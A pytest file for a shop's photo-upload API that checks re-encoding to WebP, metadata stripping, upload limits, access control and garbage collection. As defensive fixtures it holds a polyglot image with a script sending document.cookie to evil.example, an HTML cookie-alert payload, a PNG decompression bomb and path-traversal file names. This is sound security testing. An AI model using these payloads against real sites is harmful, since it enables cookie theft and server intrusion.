"""Photos (API.md "Photos", issue 17): uploads decoded and re-encoded, never trusted.

Every file here is made by Pillow in the test: a phone photo with GPS and orientation 6, a
PNG whose header claims 50,000 x 50,000 pixels, HTML named .jpg, a truncated JPEG, a
polyglot (an image with a script after it). Uploads go through the real route, the real
process pool and real files; the S3 backend talks to moto's server on 127.0.0.1.
"""

from __future__ import annotations

import io
import re
import struct
import threading
import zlib
from pathlib import Path

import pytest
from PIL import Image

from shop.db import database
from shop.services import media, photos
from tests.conftest import sign_up
from tests.test_selling import ITEM, submit

STORED = re.compile(r"^[0-9a-f]{2}/[0-9a-f]{64}-(thumb|card|full)\.webp$")
GPS_TAG, ORIENTATION_TAG = 0x8825, 0x0112


def picture(size=(64, 48), color=(200, 30, 30), fmt="JPEG", **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt, **save)
    return out.getvalue()


def phone_photo() -> bytes:
    """2000 x 1500 as the sensor saw it: left half red, right half blue, with orientation 6
    (turn 90 degrees clockwise to show) and the seller's home in the GPS block."""
    image = Image.new("RGB", (2000, 1500), (220, 20, 20))
    image.paste((20, 20, 220), (1000, 0, 2000, 1500))
    exif = Image.Exif()
    exif[ORIENTATION_TAG] = 6
    exif[0x010F] = "PhoneMaker"
    exif[GPS_TAG] = {1: "N", 2: (53.0, 20.0, 12.5), 3: "W", 4: (6.0, 15.0, 30.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header says width x height, with almost no pixel data after it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + chunk(b"IEND", b""))


def upload(client, url: str, headers: dict, data: bytes, name: str = "photo.jpg",
           content_type: str = "image/jpeg"):
    return client.post(url, headers=headers, content_type="multipart/form-data",
                       data={"file": (io.BytesIO(data), name, content_type)})


def stored_files(app) -> list[str]:
    root = Path(app.config["SHOP_SETTINGS"].media_dir)
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def fetch(client, url: str) -> tuple[bytes, object]:
    response = client.get(url)
    assert response.status_code == 200, url
    return response.data, response


@pytest.fixture
def product(client, admin_headers) -> int:
    r = client.post("/api/admin/products", headers=admin_headers, json={
        "sku": "COAT-1", "title": "Wool coat", "category": "coats", "condition": "good",
        "price_cents": 4500})
    return r.get_json()["product"]["id"]


def product_images_url(product_id: int) -> str:
    return f"/api/admin/products/{product_id}/images"


# --- what is stored ----------------------------------------------------------------------------

def test_a_phone_photo_is_turned_upright_and_loses_its_metadata(app, client, admin_headers,
                                                                  product) -> None:
    source = phone_photo()
    assert Image.open(io.BytesIO(source)).getexif().get_ifd(GPS_TAG)  # the test's premise
    r = upload(client, product_images_url(product), admin_headers, source)
    assert r.status_code == 201, r.get_json()
    image = r.get_json()["image"]
    # Upright: 1500 x 2000, the full variant at most 1600 on its long edge.
    assert (image["width"], image["height"]) == (1200, 1600)
    assert set(image["variants"]) == {"thumb", "card", "full"}
    assert image["url"] == image["variants"]["full"]
    assert "cloudflare_id" not in image
    sizes = {}
    for name, url in image["variants"].items():
        assert re.fullmatch(r"/media/[0-9a-f]{2}/[0-9a-f]{64}-" + name + r"\.webp", url)
        data, response = fetch(client, url)
        assert response.mimetype == "image/webp"
        assert response.headers["Cache-Control"] == \
            "public, max-age=31536000, immutable"
        assert b"Exif" not in data and b"PhoneMaker" not in data and b"XMP" not in data
        served = Image.open(io.BytesIO(data))
        assert served.format == "WEBP"
        assert not served.getexif() and "exif" not in served.info
        assert "icc_profile" not in served.info and "xmp" not in served.info
        served = served.convert("RGB")
        sizes[name] = served.size
        # The sensor's left (red) half is now on top; its right (blue) half below.
        width, height = served.size
        top, bottom = served.getpixel((width // 2, height // 4)), \
            served.getpixel((width // 2, 3 * height // 4))
        assert top[0] > 150 and top[2] < 80, (name, top)
        assert bottom[2] > 150 and bottom[0] < 80, (name, bottom)
    assert sizes == {"thumb": (150, 200), "card": (450, 600), "full": (1200, 1600)}
    listed = client.get(f"/api/products/{product}", headers=admin_headers).get_json()
    assert listed["product"]["images"] == [{**image, "position": 0}]


def test_a_small_photo_is_never_upscaled_and_the_same_photo_is_stored_once(
        app, client, admin_headers, product) -> None:
    data = picture((300, 120), fmt="PNG")
    first = upload(client, product_images_url(product), admin_headers, data, "a.png").get_json()
    again = upload(client, product_images_url(product), admin_headers, data, "b.png").get_json()
    assert first["image"]["variants"] == again["image"]["variants"]
    assert first["image"]["id"] != again["image"]["id"]
    assert (first["image"]["width"], first["image"]["height"]) == (300, 120)
    sizes = {name: Image.open(io.BytesIO(fetch(client, url)[0])).size
             for name, url in first["image"]["variants"].items()}
    assert sizes == {"thumb": (200, 80), "card": (300, 120), "full": (300, 120)}
    files = stored_files(app)
    assert len(files) == 3 and all(STORED.match(f) for f in files)


# --- attack files --------------------------------------------------------------------------------

def test_a_png_claiming_fifty_thousand_squared_is_refused_before_decoding(
        app, client, admin_headers, product) -> None:
    r = upload(client, product_images_url(product), admin_headers,
               png_claiming(50_000, 50_000), "bomb.png", "image/png")
    assert r.status_code == 413
    error = r.get_json()["error"]
    assert error["code"] == "payload_too_large"
    assert error["details"]["fields"] == {"file": "may have at most 40 megapixels"}
    # The work ran in the pool's process: its peak memory stayed small (the pixels claimed
    # would take 7.5 GB).
    pool = photos._pool
    assert pool is not None
    for pid in pool._processes:
        status = Path(f"/proc/{pid}/status").read_text()
        peak_kib = int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1))
        assert peak_kib < 300 * 1024, peak_kib
    assert stored_files(app) == []


def test_just_over_forty_megapixels_is_413_and_a_big_file_too(app, client, admin_headers,
                                                             product) -> None:
    r = upload(client, product_images_url(product), admin_headers, png_claiming(8001, 5000))
    assert (r.status_code, r.get_json()["error"]["code"]) == (413, "payload_too_large")
    big = b"\xff\xd8" + b"\x00" * (10 * 1024 * 1024)
    r = upload(client, product_images_url(product), admin_headers, big)
    assert r.status_code == 413
    assert r.get_json()["error"]["details"]["fields"] == {"file": "may be at most 10 MiB"}


@pytest.mark.parametrize(("data", "name", "content_type"), [
    (b"<!doctype html><html><script>alert(document.cookie)</script></html>", "photo.jpg",
     "image/jpeg"),
    (b"just some text, not a photo\n" * 20, "photo.jpg", "image/jpeg"),
    (picture((64, 48))[:300], "photo.jpg", "image/jpeg"),  # a truncated JPEG
    (picture((64, 48), fmt="PNG")[:-40], "photo.png", "image/png"),  # a truncated PNG
    (picture((64, 48), fmt="GIF"), "photo.jpg", "image/jpeg"),  # a real image, not allowed
    (b"", "photo.jpg", "image/jpeg"),
], ids=["html", "text", "truncated-jpeg", "truncated-png", "gif", "empty"])
def test_what_is_not_a_complete_jpeg_png_or_webp_is_400_naming_file(
        app, client, admin_headers, product, data, name, content_type) -> None:
    r = upload(client, product_images_url(product), admin_headers, data, name, content_type)
    assert r.status_code == 400, r.get_json()
    error = r.get_json()["error"]
    assert error["code"] == "invalid"
    assert error["details"]["fields"] == {"file": "must be a complete JPEG, PNG or WebP image"}
    assert error["message"] == "file must be a complete JPEG, PNG or WebP image"
    assert stored_files(app) == []


def test_a_polyglot_is_served_re_encoded_without_its_script(app, client, admin_headers,
                                                            product) -> None:
    script = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    source = picture((80, 60), (10, 200, 10)) + script
    assert Image.open(io.BytesIO(source)).size == (80, 60)  # it is still a valid image
    r = upload(client, product_images_url(product), admin_headers, source)
    assert r.status_code == 201
    for url in r.get_json()["image"]["variants"].values():
        data, response = fetch(client, url)
        assert data[:4] == b"RIFF" and data[8:12] == b"WEBP"
        assert b"<script" not in data and b"evil.example" not in data
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert not any(b"<script" in (Path(app.config["SHOP_SETTINGS"].media_dir) / f).read_bytes()
                   for f in stored_files(app))


@pytest.mark.parametrize("name", ["../../../../evil.jpg", "..\\..\\evil.jpg",
                                  "/etc/passwd", "a/../../shop.db"])
def test_a_file_name_is_never_used(app, client, admin_headers, product, tmp_path,
                                   name) -> None:
    r = upload(client, product_images_url(product), admin_headers, picture(), name)
    assert r.status_code == 201
    assert all(STORED.match(f) for f in stored_files(app))
    assert len(stored_files(app)) == 3
    everything = [p.name for p in tmp_path.parent.rglob("*")]
    assert not [n for n in everything if "evil" in n or n == "passwd"]
    for url in ("/media/../shop.db", "/media/..%2F..%2Fshop.db/x", "/media/ab/..%2Fshop.db",
                "/media/00/" + "0" * 64 + "-full.webp"):
        assert client.get(url).status_code == 404, url


# --- who, where and how many -------------------------------------------------------------------

@pytest.fixture
def seller(client):
    return sign_up(client, "seller@example.com")


def item_images_url(client, headers, batch: str) -> str:
    sub = client.get(f"/api/sell/{batch}", headers=headers).get_json()["submission"]
    return f"/api/sell/{batch}/items/{sub['items'][0]['id']}/images"


def test_a_stranger_uploading_to_a_sellers_item_gets_404_and_costs_nothing(
        app, client, seller) -> None:
    batch = submit(client, seller)
    url = item_images_url(client, seller, batch)
    stranger = sign_up(client, "stranger@example.com")
    r = upload(client, url, stranger, phone_photo())
    assert (r.status_code, r.get_json()["error"]["code"]) == (404, "not_found")
    assert upload(client, url, {}, picture()).status_code == 401
    assert stored_files(app) == []
    assert upload(client, url, seller, picture()).status_code == 201


def test_the_eleventh_photo_is_409_for_an_item_and_for_a_product(
        app, client, seller, admin_headers, product) -> None:
    batch = submit(client, seller)
    url = item_images_url(client, seller, batch)
    for n in range(10):
        assert upload(client, url, seller, picture(color=(n, 0, 0))).status_code == 201
    r = upload(client, url, seller, picture(color=(99, 0, 0)))
    assert r.status_code == 409
    assert r.get_json()["error"]["message"] == \
        "an item takes at most 10 photos: delete one first"
    for n in range(10):
        assert upload(client, product_images_url(product), admin_headers,
                      picture(color=(0, n, 0))).status_code == 201
    r = client.post(product_images_url(product), headers=admin_headers,
                    json={"cloudflare_id": "cf-11", "url": "https://img.test/11.jpg"})
    assert r.status_code == 409
    assert r.get_json()["error"]["message"] == \
        "a product takes at most 10 photos: delete one first"


def test_photos_are_reordered_and_deleted(client, admin_headers, product, seller) -> None:
    ids = [upload(client, product_images_url(product), admin_headers,
                  picture(color=(0, 0, n))).get_json()["image"]["id"] for n in (1, 2, 3)]
    base = product_images_url(product)
    r = client.patch(f"{base}/{ids[2]}", headers=admin_headers, json={"position": 0})
    assert r.status_code == 200
    assert [(i["id"], i["position"]) for i in r.get_json()["images"]] == \
        [(ids[2], 0), (ids[0], 1), (ids[1], 2)]
    r = client.patch(f"{base}/{ids[2]}", headers=admin_headers, json={"position": 50})
    assert [i["id"] for i in r.get_json()["images"]] == [ids[0], ids[1], ids[2]]
    assert client.delete(f"{base}/{ids[0]}", headers=admin_headers).status_code == 204
    images = client.get(f"/api/products/{product}", headers=admin_headers) \
        .get_json()["product"]["images"]
    assert [(i["id"], i["position"]) for i in images] == [(ids[1], 0), (ids[2], 1)]
    assert client.delete(f"{base}/{ids[0]}", headers=admin_headers).status_code == 404
    # A seller's photos, only while the submission is open, only the seller's.
    batch = submit(client, seller)
    url = item_images_url(client, seller, batch)
    photo = upload(client, url, seller, picture()).get_json()["image"]
    assert photo["item_id"] == int(url.split("/")[-2])
    stranger = sign_up(client, "stranger@example.com")
    assert client.delete(f"{url}/{photo['id']}", headers=stranger).status_code == 404
    assert client.delete(f"{url}/{photo['id']}", headers=seller).status_code == 204


def test_an_accepted_item_takes_its_uploaded_photos_to_its_draft_product(
        client, seller, admin_headers) -> None:
    batch = submit(client, seller)
    url = item_images_url(client, seller, batch)
    photo = upload(client, url, seller, phone_photo()).get_json()["image"]
    client.post(f"/api/admin/submissions/{batch}/review", headers=admin_headers,
                json={"status": "reviewing"})
    client.post(f"/api/admin/submissions/{batch}/offer", headers=admin_headers,
                json={"offered_price_cents": 3000})
    r = client.post(f"/api/offers/{batch}/respond", headers=seller, json={"response": "accept"})
    assert r.status_code == 200, r.get_json()
    assert upload(client, url, seller, picture()).status_code == 409  # decided: closed
    drafts = client.get("/api/products?status=draft", headers=admin_headers).get_json()["items"]
    by_title = {p["title"]: p["images"] for p in drafts}
    assert by_title["Brogues"] == []
    [copy] = by_title[ITEM["title"]]
    assert {k: copy[k] for k in ("url", "variants", "width", "height")} == \
        {k: photo[k] for k in ("url", "variants", "width", "height")}


# --- gc ----------------------------------------------------------------------------------------

def test_gc_removes_only_files_no_row_names_and_is_idempotent(app, client, admin_headers,
                                                              product) -> None:
    kept = upload(client, product_images_url(product), admin_headers,
                  picture(color=(1, 2, 3))).get_json()["image"]
    dropped = upload(client, product_images_url(product), admin_headers,
                     picture(color=(4, 5, 6))).get_json()["image"]
    assert client.delete(f"{product_images_url(product)}/{dropped['id']}",
                         headers=admin_headers).status_code == 204
    assert len(stored_files(app)) == 6
    # Inside the grace period nothing goes: it may be an upload whose row is coming.
    assert media.collect_garbage().removed == 0
    seen: list[int] = []
    result = media.collect_garbage(grace_seconds=0, batch=2, on_batch=seen.append)
    assert (result.checked, result.removed, seen) == (6, 3, [2, 2, 2])
    assert stored_files(app) == sorted(u.removeprefix("/media/")
                                       for u in kept["variants"].values())
    assert media.collect_garbage(grace_seconds=0).removed == 0  # idempotent
    for url in kept["variants"].values():
        fetch(client, url)


def test_an_upload_whose_files_gc_took_before_its_row_keeps_them(app, client, admin_headers,
                                                                  product,
                                                                  monkeypatch) -> None:
    """gc running between an upload's file writes and its row (the worst moment): the
    upload puts its files back after the commit."""
    store = media.store

    def store_then_collect(data: bytes):
        stored = store(data)
        assert media.collect_garbage(grace_seconds=0).removed == 3  # no row names them yet
        return stored

    monkeypatch.setattr(media, "store", store_then_collect)
    image = upload(client, product_images_url(product), admin_headers,
                   picture(color=(7, 8, 9))).get_json()["image"]
    for url in image["variants"].values():
        fetch(client, url)


def test_gc_beside_live_uploads_keeps_every_uploaded_photo(app, client, admin_headers,
                                                          product) -> None:
    stop = threading.Event()
    sweeps: list[int] = []

    def collect() -> None:
        while not stop.is_set():
            sweeps.append(media.collect_garbage(grace_seconds=0, batch=2).removed)
        database.close()

    sweeper = threading.Thread(target=collect)
    sweeper.start()
    try:
        images = [upload(client, product_images_url(product), admin_headers,
                         picture(color=(n, n, 0))).get_json() for n in range(8)]
    finally:
        stop.set()
        sweeper.join()
    assert len(sweeps) > 1
    assert all("image" in answer for answer in images), [a for a in images if "image" not in a]
    images = [answer["image"] for answer in images]
    for image in images:
        for url in image["variants"].values():
            fetch(client, url)


# --- S3-compatible storage -------------------------------------------------------------------

@pytest.fixture
def s3(monkeypatch):
    """moto's S3 server on 127.0.0.1 (a real HTTP server; boto3 is not patched)."""
    from moto.server import ThreadedMotoServer

    from tests.servers import free_port

    for name, value in {"AWS_ACCESS_KEY_ID": "test", "AWS_SECRET_ACCESS_KEY": "test",
                        "AWS_DEFAULT_REGION": "us-east-1"}.items():
        monkeypatch.setenv(name, value)
    port = free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    try:
        import boto3

        endpoint = f"http://127.0.0.1:{port}"
        boto3.client("s3", endpoint_url=endpoint).create_bucket(Bucket="shop-photos")
        yield endpoint
    finally:
        server.stop()


@pytest.mark.slow
def test_photos_go_to_an_s3_compatible_bucket_and_gc_cleans_it(s3, make_app, tmp_path) -> None:
    import boto3

    app = make_app({"TESTING": True, "MEDIA_DIR": tmp_path / "unused",
                    "MEDIA_URL": "s3://shop-photos/shop", "MEDIA_ENDPOINT": s3})
    client = app.test_client()
    admin = sign_up(client, "owner@example.com", admin=True)
    product = client.post("/api/admin/products", headers=admin, json={
        "sku": "S3-1", "title": "Coat", "category": "coats", "condition": "good",
        "price_cents": 100}).get_json()["product"]["id"]
    image = upload(client, product_images_url(product), admin, phone_photo()).get_json()["image"]
    bucket = boto3.client("s3", endpoint_url=s3)

    def keys() -> list[str]:
        listed = bucket.list_objects_v2(Bucket="shop-photos").get("Contents", [])
        return sorted(o["Key"] for o in listed)

    assert len(keys()) == 3 and all(re.fullmatch(r"shop/" + STORED.pattern[1:], k)
                                    for k in keys())
    prefix = f"{s3}/shop-photos/shop/"
    for name, url in image["variants"].items():
        # Where browsers fetch it (a public bucket, or SHOP_MEDIA_PUBLIC_URL's CDN); the
        # bucket here is private, so the test reads it with the shop's credentials.
        assert re.fullmatch(re.escape(prefix) + r"[0-9a-f]{2}/[0-9a-f]{64}-" + name
                            + r"\.webp", url)
        stored = bucket.get_object(Bucket="shop-photos", Key="shop/" + url[len(prefix):])
        assert stored["CacheControl"] == "public, max-age=31536000, immutable"
        assert stored["ContentType"] == "image/webp"
        data = stored["Body"].read()
        assert b"Exif" not in data and not Image.open(io.BytesIO(data)).getexif()
    assert not (tmp_path / "unused").exists()
    assert client.get(image["url"].replace(s3 + "/shop-photos/shop", "/media")) \
        .status_code == 404  # the app serves local files only
    assert media.collect_garbage(grace_seconds=0).removed == 0
    assert client.delete(f"{product_images_url(product)}/{image['id']}",
                         headers=admin).status_code == 204
    assert media.collect_garbage(grace_seconds=0).removed == 3
    assert keys() == []
    database.close()


def test_the_gc_command_reports_and_is_idempotent(app, client, admin_headers, product, runner,
                                                  monkeypatch) -> None:
    media_dir = app.config["SHOP_SETTINGS"].media_dir
    dropped = upload(client, product_images_url(product), admin_headers,
                     picture()).get_json()["image"]
    client.delete(f"{product_images_url(product)}/{dropped['id']}", headers=admin_headers)
    monkeypatch.setenv("SHOP_MEDIA_DIR", str(media_dir))
    kept = runner.invoke(["media", "gc"])
    assert (kept.exit_code, kept.output.splitlines()[-1]) == \
        (0, "checked 3 file(s), removed 0"), kept.output
    gone = runner.invoke(["media", "gc", "--grace-minutes", "0"])
    assert (gone.exit_code, gone.output.splitlines()[-1]) == \
        (0, "checked 3 file(s), removed 3"), gone.output
    again = runner.invoke(["media", "gc", "--grace-minutes", "0"])
    assert again.output.splitlines()[-1] == "checked 0 file(s), removed 0"
    assert stored_files(app) == []


# --- over a real gunicorn ----------------------------------------------------------------------

def _multipart(data: bytes, name: str = "photo.jpg") -> tuple[bytes, str]:
    boundary = "shop-test-boundary-7d1e"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
            f"filename=\"{name}\"\r\nContent-Type: image/jpeg\r\n\r\n").encode() + data + \
        f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


@pytest.mark.slow
def test_an_upload_over_gunicorn_is_served_re_encoded_and_a_bomb_is_a_json_413(db, tmp_path):
    """The whole path as a browser takes it: a phone photo posted to a real gunicorn comes
    back from /media as WebP with no EXIF and an immutable cache header; a PNG claiming
    50,000 x 50,000 pixels is the shared JSON 413. (``db``: the test's database; on the
    PostgreSQL run the server has it from SHOP_DATABASE_URL.)"""
    import json
    import urllib.error
    import urllib.request

    from shop.services import accounts, catalogue
    from tests.servers import running_shop

    path = db
    accounts.register("owner@example.com", "a long enough password", "Owner")
    accounts.create_admin("owner@example.com", None)
    token = accounts.login("owner@example.com", "a long enough password").token
    pid = catalogue.create_product({"sku": "COAT-9", "title": "Wool coat", "category": "coats",
                                    "condition": "good", "price_cents": 4500})["id"]
    database.close()

    def post(base: str, data: bytes) -> tuple[int, dict, str]:
        body, kind = _multipart(data)
        request = urllib.request.Request(
            f"{base}/api/admin/products/{pid}/images", data=body, method="POST",
            headers={"Content-Type": kind, "Authorization": f"Bearer {token}"})
        try:
            with urllib.request.urlopen(request, timeout=60) as r:
                return r.status, json.loads(r.read()), r.headers["Content-Type"]
        except urllib.error.HTTPError as exc:
            return exc.code, json.loads(exc.read()), exc.headers["Content-Type"]

    media_dir = tmp_path / "media"
    with running_shop(path, workers=1, threads=4,
                      env={"SHOP_MEDIA_DIR": str(media_dir)}) as base:
        status, body, _ = post(base, phone_photo())
        assert status == 201, body
        image = body["image"]
        assert (image["width"], image["height"]) == (1200, 1600)  # upright, 1600 long edge
        with urllib.request.urlopen(base + image["variants"]["full"], timeout=30) as r:
            served, headers = r.read(), r.headers
        assert headers["Content-Type"] == "image/webp"
        assert "immutable" in headers["Cache-Control"]
        assert not Image.open(io.BytesIO(served)).getexif()
        status, body, kind = post(base, png_claiming(50_000, 50_000))
        assert (status, kind) == (413, "application/json")
        assert body["error"]["code"] == "payload_too_large"
